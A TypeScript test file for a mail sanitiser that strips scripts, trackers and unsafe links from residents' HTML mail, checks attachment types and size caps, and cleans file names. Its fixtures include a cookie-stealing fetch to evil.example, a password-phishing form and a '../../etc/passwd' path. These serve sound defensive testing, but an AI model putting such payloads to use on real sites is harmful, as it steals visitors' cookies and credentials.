// What of a resident's mail may reach the console: HTML that neither runs nor loads anything, attachments within the
// caps whose type the bytes tell.
import { beforeAll, describe, expect, it } from 'vitest';
import { sampleFiles } from '../../../../test/helpers/mail-fixtures.ts';
import {
  type AttachmentCandidate,
  checkAttachments,
  htmlToPlainText,
  MAX_ATTACHMENT_BYTES,
  MAX_ATTACHMENTS,
  safeFileName,
  sanitizeInboundHtml,
} from './inbound-content.ts';

describe('sanitised HTML', () => {
  it('scripts, styles, event handlers, iframes and forms are gone; the words stay', () => {
    const html = sanitizeInboundHtml(
      [
        '<html><head><title>T</title><style>body{background:url(https://track.example/s.gif)}</style></head>',
        '<body onload="steal()"><p style="color:red" class="x" onclick="steal()">Die <b>Laterne</b> ist defekt.</p>',
        '<script>fetch("https://evil.example/?c="+document.cookie)</script>',
        '<iframe src="https://evil.example/frame">frame text</iframe>',
        '<form action="https://evil.example/login"><input name="password"><button>Senden</button></form>',
        '<svg onload="x()"><script>y()</script></svg><object data="x.swf"></object>',
        '</body></html>',
      ].join(''),
    );
    expect(html).toContain('<p>Die <b>Laterne</b> ist defekt.</p>');
    for (const bad of ['script', 'style', 'onload', 'onclick', 'iframe', '<form', '<input', 'svg', 'object', 'evil.example', 'track.example', 'class=']) {
      expect(html).not.toContain(bad);
    }
  });

  it('no remote image, background or CSS can make the viewer send a request', () => {
    const html = sanitizeInboundHtml(
      '<p>Foto:</p><img src="https://track.example/pixel.gif" width="1"><img src="cid:part1"><table background="https://track.example/bg.png"><tr><td style="background:url(https://track.example/c)">x</td></tr></table><link rel="stylesheet" href="https://track.example/a.css"><video poster="https://track.example/p.jpg"></video>',
    );
    expect(html).not.toMatch(/track\.example|<img|cid:|<link|<video|background/);
    expect(html).toContain('<table><tr><td>x</td></tr></table>');
  });

  it('links keep http, https and mailto only, and open outside without a referrer', () => {
    const html = sanitizeInboundHtml(
      '<a href="https://musterstadt.example/x">ok</a> <a href="mailto:amt@musterstadt.example">mail</a> <a href="javascript:alert(1)">js</a> <a href="data:text/html,<script>x</script>">data</a> <a href="//evil.example">rel</a> <a href="https://x.example" target="_self" rel="opener">t</a>',
    );
    expect(html).toContain('<a href="https://musterstadt.example/x" rel="noopener noreferrer nofollow" target="_blank">ok</a>');
    expect(html).toContain('href="mailto:amt@musterstadt.example"');
    expect(html).not.toMatch(/javascript:|data:|\/\/evil\.example|_self|"opener"/);
  });

  it('lists, tables and basic formatting survive; nesting deeper than a person writes is flattened', () => {
    expect(sanitizeInboundHtml('<ul><li><em>eins</em></li></ul><ol start="3"><li>drei</li></ol>')).toBe(
      '<ul><li><em>eins</em></li></ul><ol start="3"><li>drei</li></ol>',
    );
    const deep = `${'<div>'.repeat(5000)}tief${'</div>'.repeat(5000)}`;
    const flat = sanitizeInboundHtml(deep);
    expect(flat).toContain('tief');
    expect((flat.match(/<div>/g) ?? []).length).toBeLessThanOrEqual(40);
  });

  it('an HTML-only mail still has plain text', () => {
    expect(htmlToPlainText('<p>Erste Zeile</p><p>Zweite <script>x()</script>Zeile</p>')).toBe('Erste Zeile\nZweite Zeile');
  });
});

describe('attachments', () => {
  let files: Awaited<ReturnType<typeof sampleFiles>>;
  beforeAll(async () => {
    files = await sampleFiles();
  });
  const one = async (c: AttachmentCandidate) => checkAttachments([c]);

  it('pictures, PDF, office documents and plain text pass with the type their bytes have', async () => {
    const { accepted, refused } = await checkAttachments([
      { fileName: 'laterne.png', declaredType: 'image/png', content: files.png },
      { fileName: 'IMG_0001.JPG', declaredType: 'application/octet-stream', content: files.jpeg },
      { fileName: 'antrag.pdf', declaredType: 'application/pdf', content: files.pdf },
      { fileName: 'brief.odt', declaredType: 'application/octet-stream', content: files.odt },
      { fileName: 'brief.docx', declaredType: 'application/msword', content: files.docx },
      { fileName: 'alt.doc', declaredType: 'application/msword', content: files.cfb },
      { fileName: 'liste.csv', declaredType: 'text/csv', content: files.text },
    ]);
    expect(refused).toEqual([]);
    expect(accepted.map((a) => [a.fileName, a.contentType])).toEqual([
      ['laterne.png', 'image/png'],
      ['IMG_0001.JPG', 'image/jpeg'],
      ['antrag.pdf', 'application/pdf'],
      ['brief.odt', 'application/vnd.oasis.opendocument.text'],
      ['brief.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
      ['alt.doc', 'application/msword'],
      ['liste.csv', 'text/csv'],
    ]);
    expect(accepted[0].content.equals(files.png)).toBe(true);
  });

  it('a ".pdf" that is really a program is refused, whatever it claims', async () => {
    const exe = await one({ fileName: 'rechnung.pdf', declaredType: 'application/pdf', content: files.exe });
    expect(exe).toEqual({
      accepted: [],
      refused: [
        {
          reason: 'attachment_type',
          fileName: 'rechnung.pdf',
          declaredType: 'application/pdf',
          detectedType: 'application/x-msdownload',
          size: files.exe.length,
        },
      ],
    });
    const elf = await one({ fileName: 'foto.jpg', declaredType: 'image/jpeg', content: files.elf });
    expect(elf.refused).toMatchObject([{ reason: 'attachment_type', detectedType: 'application/x-elf' }]);
  });

  it('macro documents, SVG, HTML and unknown binaries are refused; a renamed picture gets its true extension', async () => {
    expect((await one({ fileName: 'formular.docm', declaredType: 'application/octet-stream', content: files.docm })).refused).toHaveLength(1);
    expect((await one({ fileName: 'logo.svg', declaredType: 'image/svg+xml', content: files.svg })).refused).toHaveLength(1);
    expect((await one({ fileName: 'x.html', declaredType: 'text/html', content: Buffer.from('<script>x()</script>') })).refused).toHaveLength(1);
    expect((await one({ fileName: 'note.txt', declaredType: 'text/plain', content: Buffer.from([1, 2, 3, 0, 255]) })).refused).toHaveLength(1);
    expect((await one({ fileName: 'data.cfb', declaredType: 'application/octet-stream', content: files.cfb })).refused).toHaveLength(1);
    const renamed = await one({ fileName: 'scan.pdf', declaredType: 'application/pdf', content: files.png });
    expect(renamed.accepted.map((a) => [a.fileName, a.contentType])).toEqual([['scan.png', 'image/png']]);
  });

  it('at most ten files, each at most 10 MB, 25 MB together; the rest is refused with its reason', async () => {
    const big = Buffer.concat([files.pdf, Buffer.alloc(MAX_ATTACHMENT_BYTES)]);
    const nine = Buffer.concat([files.pdf, Buffer.alloc(9 * 1024 * 1024)]);
    const { accepted, refused } = await checkAttachments([
      { fileName: 'zu-gross.pdf', declaredType: 'application/pdf', content: big },
      { fileName: 'a.pdf', declaredType: 'application/pdf', content: nine },
      { fileName: 'b.pdf', declaredType: 'application/pdf', content: nine },
      { fileName: 'c.pdf', declaredType: 'application/pdf', content: nine },
      ...Array.from({ length: MAX_ATTACHMENTS }, (_, i) => ({ fileName: `foto${i}.png`, declaredType: 'image/png', content: files.png })),
    ]);
    expect(refused.map((r) => [r.reason, r.fileName])).toEqual([
      ['attachment_too_large', 'zu-gross.pdf'],
      ['attachments_too_large', 'c.pdf'],
      ['too_many_attachments', 'foto8.png'],
      ['too_many_attachments', 'foto9.png'],
    ]);
    expect(accepted).toHaveLength(MAX_ATTACHMENTS);
  });

  it('file names lose folders and control characters', () => {
    expect(safeFileName('../../etc/passwd\u0000.png', 0, 'png')).toBe('passwd.png');
    expect(safeFileName('C:\\Users\\anna\\Bild "1".jpeg', 0, 'jpg')).toBe('Bild 1.jpeg');
    expect(safeFileName(undefined, 2, 'pdf')).toBe('anhang-3.pdf');
  });
});
